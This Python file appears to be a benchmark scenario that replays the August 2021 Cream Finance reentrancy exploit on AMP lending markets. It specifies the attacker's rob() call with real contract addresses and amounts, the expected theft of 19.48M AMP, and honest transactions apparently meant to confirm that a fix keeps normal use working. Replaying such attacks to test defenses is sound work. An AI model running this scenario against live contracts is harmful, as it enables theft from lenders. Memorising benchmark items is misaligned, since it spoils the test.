"""Cream, August 2021: AMP calls its receiver, and markets paid before they booked."""

from benches.quality.plan import ETHER, NATIVE, Incident, Plan, call, gains

COMPTROLLER = "0x3d5bc3c8d13dcb8bf317092d84783c2697ae9258"
AMP_MARKET = "0x2db6c82ce72c8d7d770ba1b5f5ed0b6e075066d6"
ETH_MARKET = "0xd06527d5e56a3495252a528c4987003b712860ee"
AMP = "0xff20817765cb7f73d4bde2e66e067e58d11095c2"


def build(plan: Plan) -> None:
    attacker = plan.actor("attacker", 1_000 * ETHER)
    borrower = plan.deploy(attacker, "AmpHookBorrower")
    rob = call(
        "rob(address,address,address,uint256,uint256)",
        *(COMPTROLLER, ETH_MARKET, AMP_MARKET, 19_480_000 * ETHER, 355 * ETHER),
    )
    plan.attack(
        plan.transaction(attacker, borrower, rob, value=500 * ETHER, gas=6_000_000),
        changes=[
            gains(AMP, attacker, 19_480_000 * ETHER),
            gains(NATIVE, attacker, -145 * ETHER),
            gains(NATIVE, ETH_MARKET, 145 * ETHER),
        ],
    )

    saver, debtor = plan.actor("saver"), plan.actor("debtor", 300 * ETHER)
    plan.honest(
        "supply of 40 ETH",
        plan.transaction(saver, ETH_MARKET, call("mint()"), value=40 * ETHER),
        changes=[gains(ETH_MARKET, saver, 1)],
    )
    enter = call("enterMarkets(address[])", [ETH_MARKET])
    plan.before(debtor, ETH_MARKET, call("mint()"), value=200 * ETHER)
    plan.before(debtor, COMPTROLLER, enter)
    plan.honest(
        "2,000,000 AMP borrowed against 200 ETH",
        plan.transaction(debtor, AMP_MARKET, call("borrow(uint256)", 2_000_000 * ETHER)),
        changes=[gains(AMP, debtor, 2_000_000 * ETHER)],
    )
    wallet, holder = plan.install("Wallet"), plan.actor("wallet's holder", 200 * ETHER)
    plan.honest(
        "a wallet supplies 100 ETH, borrows 1,000,000 AMP and 10 ETH",
        plan.through(
            wallet,
            holder,
            (ETH_MARKET, 100 * ETHER, call("mint()")),
            (COMPTROLLER, 0, enter),
            (AMP_MARKET, 0, call("borrow(uint256)", 1_000_000 * ETHER)),
            (ETH_MARKET, 0, call("borrow(uint256)", 10 * ETHER)),
            value=100 * ETHER,
        ),
        changes=[gains(AMP, wallet, 1_000_000 * ETHER), gains(NATIVE, wallet, 10 * ETHER)],
        by="contract",
    )


CREAM = Incident(
    "Cream",
    {"Comptroller": COMPTROLLER, "crAMP": AMP_MARKET, "crETH": ETH_MARKET},
    build,
    note="the attacker has what it would borrow for the transaction",
)
